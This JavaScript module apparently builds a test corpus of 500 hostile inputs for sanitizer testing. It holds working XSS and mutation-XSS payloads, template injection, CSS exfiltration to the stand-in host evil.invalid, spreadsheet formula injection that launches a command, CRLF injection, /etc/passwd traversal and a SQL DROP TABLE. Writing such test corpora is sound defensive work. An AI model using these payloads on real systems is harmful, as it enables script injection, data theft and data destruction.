// Hostile words: 500 of them, each with its own number, made from what browsers run, load, decode, template and reorder.
// A payload that is parsed as HTML leaves an element with the attribute `hyx`; one that runs calls hyRan(number); one that
// loads asks evil.invalid.

const ran = (at) => `hyRan(${at})`
const evil = (at, ending = '') => `//evil.invalid/${at}${ending}`
const encoded = (text) => [...text].map((each) => `&#${each.codePointAt(0)};`).join('')
const wide = (text) => [...text].map((each) => (each > ' ' && each <= '~' ? String.fromCodePoint(each.codePointAt(0) + 0xfee0) : each)).join('')

const script = [
  (at) => `<script hyx>${ran(at)}</script>`,
  (at) => `<ScRiPt hyx>${ran(at)}</sCrIpT>`,
  (at) => `<script hyx src=${evil(at, '.js')}></script>`,
  (at) => `<script hyx type=module>${ran(at)}</script>`,
  (at) => `<script/hyx/>${ran(at)}</script >`,
  (at) => `<scr<script>ipt hyx>${ran(at)}</scr</script>ipt>`,
  (at) => `<script hyx src="data:text/javascript,${ran(at)}"></script>`,
  (at) => `<script hyx>${ran(at)}`,
  (at) => `<\tscript hyx>${ran(at)}</script>`,
  (at) => `<script hyx\n>${ran(at)}\n</script\n>`,
  (at) => `<svg hyx><script>${ran(at)}</script></svg>`,
  (at) => `<svg hyx><script href="data:,${ran(at)}"/></svg>`,
]

const autoRunning = [
  ['img src=x', 'onerror'], ['img src', 'onerror'], ['img/src=x', 'onerror'], ['image src=x', 'onerror'], ['svg', 'onload'], ['body', 'onload'],
  ['video src=x', 'onerror'], ['audio src=x', 'onerror'], ['video><source src=x', 'onerror'], ['iframe', 'onload'], ['iframe srcdoc=x', 'onload'],
  ['object data=x', 'onerror'], ['embed src=x', 'onload'], ['input autofocus', 'onfocus'], ['select autofocus', 'onfocus'], ['textarea autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocus'], ['details open', 'ontoggle'], ['style', 'onload'], ['link rel=stylesheet href=x', 'onerror'], ['script src=x', 'onerror'],
  ['marquee', 'onstart'], ['input type=image src=x', 'onerror'], ['div contenteditable autofocus', 'onfocus'], ['p onmouseover=1', 'onpointerenter'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'], ['svg><set attributeName=x to=1', 'onbegin'], ['track src=x', 'onerror'], ['form', 'onformdata'], ['dialog open', 'onclose'],
]
const handlers = [
  ([tag, event], at) => `<${tag} hyx ${event}=${ran(at)}>`,
  ([tag, event], at) => `<${tag.toUpperCase()} hyx ${event.toUpperCase()} = "${ran(at)}" >`,
  ([tag, event], at) => `<${tag}\thyx\n${event}='${encoded(ran(at))}'//>`,
]

const wayOut = ['"', "'", '`', '">', "'>", '"/>', '-->', '--!>', ']]>', '</textarea>', '</title>', '</script>', '</style>', '</noscript>', '</template>', '</select>', '</table>', '</iframe>', '</svg>', '</pre>', '</xmp>', '<!--', '<![CDATA[', '<!DOCTYPE x>', '</p>', '" autofocus x="', "' x='"]
const ways = [
  (out, at) => `${out}<img hyx src=x onerror=${ran(at)}>`,
  (out, at) => `${out} onfocus=${ran(at)} autofocus hyx x=${out}`,
]

const addresses = [
  (at) => `javascript:${ran(at)}`,
  (at) => `JaVaScRiPt:${ran(at)}`,
  (at) => `java\tscript:${ran(at)}`,
  (at) => `java&#10;script:${ran(at)}`,
  (at) => `\u0001javascript:${ran(at)}`,
  (at) => ` javascript:${ran(at)}`,
  (at) => `javascript&colon;${ran(at)}`,
  (at) => `javascript:%68yRan(${at})`,
  (at) => `javascript://x%0a${ran(at)}`,
  (at) => `vbscript:${ran(at)}`,
  (at) => `data:text/html,<script>${ran(at)}</script>`,
  (at) => `data:image/svg+xml,<svg onload=${ran(at)}>`,
  (at) => `blob:https:${evil(at)}`,
  (at) => `https:${evil(at)}`,
  (at) => evil(at),
]
const places = [
  (url) => url,
  (url) => `<a hyx href="${url}" autofocus>x</a>`,
  (url) => `<iframe hyx src="${url}"></iframe>`,
  (url) => `<form hyx action="${url}"><button autofocus>x</button></form>`,
  (url) => `<svg hyx><a xlink:href="${url}"><text y=9>x</text></a></svg>`,
]

const loading = [
  (at) => `<img hyx src=${evil(at, '.png')}>`,
  (at) => `<img hyx srcset="${evil(at)} 1x">`,
  (at) => `<picture hyx><source srcset=${evil(at)}><img></picture>`,
  (at) => `<video hyx poster=${evil(at)}>`,
  (at) => `<audio hyx src=${evil(at)} autoplay>`,
  (at) => `<link hyx rel=stylesheet href=${evil(at, '.css')}>`,
  (at) => `<link hyx rel=preload as=image href=${evil(at)}>`,
  (at) => `<link hyx rel=icon href=${evil(at)}>`,
  (at) => `<iframe hyx src=${evil(at)}></iframe>`,
  (at) => `<object hyx data=${evil(at)}></object>`,
  (at) => `<embed hyx src=${evil(at)}>`,
  (at) => `<input hyx type=image src=${evil(at)}>`,
  (at) => `<body hyx background=${evil(at)}>`,
  (at) => `<table hyx background=${evil(at)}><td>x`,
  (at) => `<svg hyx><image href=${evil(at)} width=9 height=9 /></svg>`,
  (at) => `<svg hyx><use href="${evil(at)}#x"/></svg>`,
  (at) => `<meta hyx http-equiv=refresh content="0;url=${evil(at)}">`,
  (at) => `<base hyx href=${evil(at)}/>`,
  (at) => `<form hyx action=${evil(at)}><input name=x autofocus></form>`,
]

const css = [
  (at) => `<style hyx>@import '${evil(at)}';</style>`,
  (at) => `<style hyx>*{background:url(${evil(at)})!important}</style>`,
  (at) => `<div hyx style="background:url(${evil(at)})">x</div>`,
  (at) => `<div hyx style="width:expression(${ran(at)})">x</div>`,
  (at) => `<div hyx style="position:fixed;inset:0;background:#fff;z-index:9999">${at}</div>`,
  (at) => `x;background:url(${evil(at)})`,
  (at) => `x}*{background:url(${evil(at)})}`,
  (at) => `<style hyx>@font-face{font-family:a;src:url(${evil(at)})}*{font-family:a}</style>`,
  (at) => `<style hyx>@keyframes k{}p{animation:k 1s}</style><p onanimationstart=${ran(at)}>x`,
  (at) => `<style hyx>input[value^="a"]{background:url(${evil(at)})}</style>`,
]

const mutation = [
  (at) => `<math hyx><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${ran(at)}&gt;">`,
  (at) => `<svg hyx></p><style><a id="</style><img src=1 onerror=${ran(at)}>">`,
  (at) => `<noscript hyx><p title="</noscript><img src=x onerror=${ran(at)}>">`,
  (at) => `<form hyx><math><mtext></form><form><mglyph><style></math><img src onerror=${ran(at)}>`,
  (at) => `<math hyx><annotation-xml encoding="text/html"><style><img src=x onerror=${ran(at)}></style>`,
  (at) => `<svg hyx><foreignObject><img src=x onerror=${ran(at)}></foreignObject></svg>`,
  (at) => `<svg hyx><desc><noscript><img title="</noscript><img src=x onerror=${ran(at)}>"></desc>`,
  (at) => `<table hyx><tr><td><template><img src=x onerror=${ran(at)}></template>`,
  (at) => `<listing hyx>&lt;img src=x onerror=${ran(at)}&gt;</listing>`,
  (at) => `<xmp hyx><p title="</xmp><img src=x onerror=${ran(at)}>">`,
  (at) => `<plaintext hyx><img src=x onerror=${ran(at)}>`,
  (at) => `<template hyx shadowrootmode=open><img src=x onerror=${ran(at)}></template>`,
  (at) => `<math hyx><maction actiontype=statusline xlink:href=javascript:${ran(at)}>x</maction></math>`,
  (at) => `<svg hyx><style>&lt;img src=x onerror=${ran(at)}&gt;</style></svg>`,
  (at) => `<select hyx><style></select><img src=x onerror=${ran(at)}></style>`,
]

const templates = [
  (at) => `{{constructor.constructor('${ran(at)}')()}}`,
  (at) => `{{_openBlock.constructor('${ran(at)}')()}}`,
  (at) => `{{$emit.constructor('${ran(at)}')()}}`,
  (at) => `\${${ran(at)}}`,
  (at) => `#{${ran(at)}}`,
  (at) => `<%= ${ran(at)} %>`,
  (at) => `{%${ran(at)}%}`,
  (at) => `[[${ran(at)}]]`,
  (at) => `<div hyx v-html="'<img src=x onerror=${ran(at)}>'"></div>`,
  (at) => `<x hyx v-if="constructor.constructor('${ran(at)}')()"/>`,
  (at) => `<component hyx :is="'script'" :text="'${ran(at)}'"/>`,
  (at) => `<button hyx @click="${ran(at)}" v-focus autofocus>x</button>`,
  (at) => `{name} {n} {0} ${at}`,
  (at) => `@:common.close ${at}`,
  (at) => `@.upper:common.all | ${at} | x`,
  (at) => `%{x} %s %d %n ${at}`,
  (at) => `$&$1$\`$' ${at}`,
]

const unicode = [
  (at) => wide(`<script>${ran(at)}</script>`),
  (at) => `\u2039script\u203a${ran(at)}\u2039/script\u203a`,
  (at) => `<\u200bscript hyx>${ran(at)}</script>`,
  (at) => `<img\u00a0hyx src=x onerror=${ran(at)}>`,
  (at) => `<img\u2028hyx src=x onerror=${ran(at)}>`,
  (at) => `<img hyx src=x o\u0144error=${ran(at)}>`,
  (at) => `\u202e<img hyx src=x onerror=${ran(at)}>`,
  (at) => `\u2066\u202e${at} gpj.exe`,
  (at) => `\u200f\u061c${at} \u202b\u202d`,
  (at) => `\ufeff<img hyx src=x onerror=${ran(at)}>`,
  (at) => `\u02ba><img hyx src=x onerror=${ran(at)}>`,
  (at) => `z${'\u0301'.repeat(40)}${at}`,
  (at) => `\u{e0001}\u{e003c}<img hyx src=x onerror=${ran(at)}>`,
  (at) => `\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67<svg hyx onload=${ran(at)}>`,
  (at) => `\u0130<script\u0131 hyx>${ran(at)}</script>`,
  (at) => `\u{10ffff}\ufffd\ufdd0<img hyx src=x onerror=${ran(at)}>`,
]

const escaped = [
  (at) => `&lt;img hyx src=x onerror=${ran(at)}&gt;`,
  (at) => `&amp;lt;img hyx src=x onerror=${ran(at)}&amp;gt;`,
  (at) => `&#60img hyx src=x onerror=${ran(at)}&#62`,
  (at) => `&#x3c;svg hyx onload=${ran(at)}&#x3e;`,
  (at) => encodeURIComponent(`<img hyx src=x onerror=${ran(at)}>`),
  (at) => encodeURIComponent(encodeURIComponent(`<svg hyx onload=${ran(at)}>`)),
  (at) => `\\x3cimg hyx src=x onerror=${ran(at)}\\x3e`,
  (at) => `\\u003cimg hyx src=x onerror=${ran(at)}\\u003e`,
  (at) => `+ADw-script+AD4-${ran(at)}+ADw-/script+AD4-`,
  (at) => Buffer.from(`<svg onload=${ran(at)}>`).toString('base64'),
]

const breakers = [
  (at) => `","x":"</script><script hyx>${ran(at)}</script>`,
  (at) => `'};${ran(at)};//`,
  (at) => `\\");${ran(at)};//`,
  (at) => `\\u0022;${ran(at)}//`,
  (at) => `\n${ran(at)}\n`,
  (at) => `\u2028${ran(at)}\u2029`,
  () => '__proto__', () => 'constructor', () => 'toString', () => 'hasOwnProperty', () => 'null', () => 'undefined', () => 'NaN', () => '-0', () => '1e999', () => '[object Object]',
  (at) => `{"__proto__":{"hyx":${at}}}`,
  (at) => `=HYPERLINK("https:${evil(at)}","x")`,
  (at) => `+cmd|' /C calc'!A${at}`,
  (at) => `@SUM(1+${at})`,
  (at) => `x\r\nSet-Cookie: hyx=${at}\r\n\r\n<script hyx>${ran(at)}</script>`,
  (at) => `../../../../etc/passwd?${at}`,
  (at) => `'; DROP TABLE huiyin.ticket;-- ${at}`,
]

const markdown = [
  (at) => `[x](javascript:${ran(at)})`,
  (at) => `![x](${evil(at)})`,
  (at) => `![x](x"onerror="${ran(at)})`,
  (at) => `<javascript:${ran(at)}>`,
  (at) => `[x]: javascript:${ran(at)} "x"\n[x]`,
  (at) => `\`\`\`\n<img hyx src=x onerror=${ran(at)}>\n\`\`\``,
  (at) => `[x](data:text/html;base64,PHNjcmlwdD4=)${at}`,
  (at) => `**<img hyx src=x onerror=${ran(at)}>**`,
  (at) => `https:${evil(at)}/"onmouseover="${ran(at)}`,
]

const crossed = (outer, inner) => inner.flatMap((form) => outer.map((each) => (at) => form(each, at)))
const families = [
  script, crossed(autoRunning, handlers), crossed(wayOut, ways), places.flatMap((place) => addresses.map((address) => (at) => place(address(at)))), loading, css, mutation,
  templates, unicode, escaped, breakers, markdown,
]
/** What stands around a payload: the forms come around again in the other one. */
const around = [(text) => text, (text) => `客户说：${text}`]

export const count = 500

export const payloads = (() => {
  const all = []
  for (const wrap of around)
    for (const family of families)
      for (const form of family) if (all.length < count) all.push(wrap(form(all.length)))
  return all
})()
